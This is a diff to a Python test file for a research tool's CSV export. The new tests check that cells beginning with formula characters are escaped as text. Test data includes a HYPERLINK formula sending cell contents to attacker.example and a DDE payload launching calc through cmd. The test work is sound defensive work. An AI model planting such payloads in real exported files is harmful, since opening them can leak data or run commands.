@@ -7,16 +7,17 @@ import csv
 import hashlib
 import io
 import json
+import subprocess
 import zipfile
 from datetime import UTC, datetime
 
 import pytest
 
 from research.models import Claim, FetchStatus, Note, PageSnapshot, Passage, Report, Source
-from research.output import export, package
+from research.output import export, package, tables
 from research.text import citations
 from tests.factories import add_report, add_source, make_library_document, make_project
-from tests.system import needs_pango
+from tests.system import needs_libreoffice, needs_pango, soffice
 
 pytestmark = [pytest.mark.django_db, needs_pango()]
 
@@ -182,7 +183,7 @@ def test_claims_csv_writes_one_row_per_claim_with_lists_spaced():
         "review": "",
         "review_note": "",
     }
-    lines = package.to_csv(export.CLAIM_COLUMNS, [row]).decode().split("\n")
+    lines = tables.to_csv(export.CLAIM_COLUMNS, [row]).decode().split("\n")
     assert (
         lines[1]
         == '"Readers continue, ""always"" [1][3].",1 3,10 12,readers continue,10,supported,,,'
@@ -231,3 +232,50 @@ def test_the_claims_of_a_checked_version_are_its_rows_in_order(report):
     assert files["claims.csv"].decode().splitlines()[1] == (
         f"Sentence 0 [1].,1,{cited.pk},A quote.,{cited.pk},supported,why,,"
     )
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_is_written_as_text(start):
+    row = {"sentence": f"{start}1+1", "citations": [1], "quote_source_id": -3, "status": "ok"}
+    written = next(csv.DictReader(io.StringIO(tables.to_csv(export.CLAIM_COLUMNS, [row]).decode())))
+    assert written["sentence"] == "'" + start.replace("\r", "\n") + "1+1"
+    assert written["quote_source_id"] == "-3"  # a number stays a number
+    assert written["status"] == "ok"
+
+
+def _formula_source_report(member) -> Report:
+    project = make_project(member, question="Who links?")
+    source = fetched_source(project, "https://example.org/f", FORMULA, "Formula text here.")
+    claim_text = "+cmd|' /C calc'!A0 [1]."
+    report = add_report(project, [source], markdown=claim_text + "\n\n")
+    Claim.objects.create(
+        report=report, position=0, sentence=claim_text, citations=[1], status="supported"
+    )
+    return report
+
+
+def test_a_source_titled_with_a_formula_comes_out_of_the_csvs_as_text(member):
+    files = unzip(package.evidence_zip(_formula_source_report(member)))
+    (source,) = csv.DictReader(io.StringIO(files["sources.csv"].decode()))
+    assert source["title"] == "'" + FORMULA
+    (claim,) = csv.DictReader(io.StringIO(files["claims.csv"].decode()))
+    assert claim["sentence"] == "'+cmd|' /C calc'!A0 [1]."
+
+
+@needs_libreoffice("a spreadsheet cannot open the evidence package's CSVs to look for formulas")
+def test_a_spreadsheet_opening_the_csvs_finds_no_formula(member, tmp_path):
+    files = unzip(package.evidence_zip(_formula_source_report(member)))
+    for name in ("sources.csv", "claims.csv"):
+        (tmp_path / name).write_bytes(files[name])
+    profile = tmp_path / "profile"
+    command = [soffice(), "--headless", f"-env:UserInstallation=file://{profile}"]
+    command += ["--convert-to", "fods", "--outdir", str(tmp_path)]
+    command += [str(tmp_path / name) for name in ("sources.csv", "claims.csv")]
+    subprocess.run(command, check=True, capture_output=True, timeout=180)
+    for name in ("sources", "claims"):
+        sheet = (tmp_path / f"{name}.fods").read_text()
+        assert "table:formula" not in sheet, name
+        assert "HYPERLINK" in sheet or "calc" in sheet  # the text is there, as text
